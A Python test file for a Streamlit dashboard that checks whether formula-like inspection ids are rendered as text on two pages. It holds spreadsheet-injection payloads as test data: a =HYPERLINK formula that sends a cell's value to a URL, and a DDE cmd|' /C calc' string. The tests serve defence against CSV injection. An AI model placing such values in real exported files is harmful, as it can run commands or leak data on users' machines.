"""Ids typed by people, as pages show them (issue 21): formulas stay text on every page.

An inspection id is free text from a planner's file. A page's table has a "Download as
CSV" button, and that file opens in a spreadsheet: an id such as ``=HYPERLINK(…)`` must
reach it as text, by the same rule as every CSV riskmap writes (:mod:`geo.sheets`).
"""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import pytest

from geo.sheets import FORMULA_PREFIXES

APP = str(Path(__file__).resolve().parent.parent / "dashboard" / "app.py")
TIMEOUT = 120
FORMULA_IDS = ('=HYPERLINK("http://127.0.0.1:9/x?"&A1,"ver")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+51-984-000-000", "-2+3")

pytestmark = pytest.mark.slow


@pytest.fixture()
def formula_ids(demo_settings, scores_gpkg, tmp_path, monkeypatch) -> str:
    """The demo (a planner of every region, no sign-in) with a store of formula-like ids.

    Returns the district they were recorded in.
    """
    from geo.store import InspectionStore

    monkeypatch.setenv("RISKMAP_CONFIG", str(demo_settings.path))
    monkeypatch.setenv("RISKMAP_DATA_DIR", str(tmp_path))  # a store of its own
    districts = gpd.read_file(demo_settings.districts_gpkg, layer="distritos")
    ubigeo = sorted(districts.loc[districts["ubigeo"].str.startswith("08"), "ubigeo"])[0]
    path = tmp_path / "formulas.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["id", "fecha", "ubigeo", "sector", "hallazgo_tf"])
        for i, rid in enumerate(FORMULA_IDS):
            out.writerow([rid, f"2024-0{i + 1}-15", ubigeo, "mineria", i % 2])
    store = InspectionStore(tmp_path / "inspecciones.sqlite", role="planificador", user="t")
    assert store.import_file(path, districts).added == len(FORMULA_IDS)
    return ubigeo


def _cells(at, column: str) -> list[str]:
    tables = [d.value for d in at.dataframe if column in d.value.columns]
    assert tables, [list(d.value.columns) for d in at.dataframe]
    return [str(v) for v in tables[0][column]]


def _no_exception(at) -> None:
    assert not at.exception, [e.value for e in at.exception]


def test_the_district_cards_record_table_neutralises_formula_ids(formula_ids):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    at.session_state["ubigeo"] = formula_ids
    at.switch_page("views/distrito.py").run()
    _no_exception(at)
    at.toggle(key=f"distrito_registros_{formula_ids}").set_value(True).run()
    _no_exception(at)
    shown = _cells(at, "Registro")  # the history file's records of the district, and these
    assert {"'" + rid for rid in FORMULA_IDS} <= set(shown)
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in shown)


def test_the_datos_pages_latest_records_neutralise_formula_ids(formula_ids):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    at.switch_page("views/datos.py").run()
    _no_exception(at)
    at.toggle(key="datos_ver_registros").set_value(True).run()
    _no_exception(at)
    shown = _cells(at, "Código")
    assert sorted(shown) == sorted("'" + rid for rid in FORMULA_IDS)
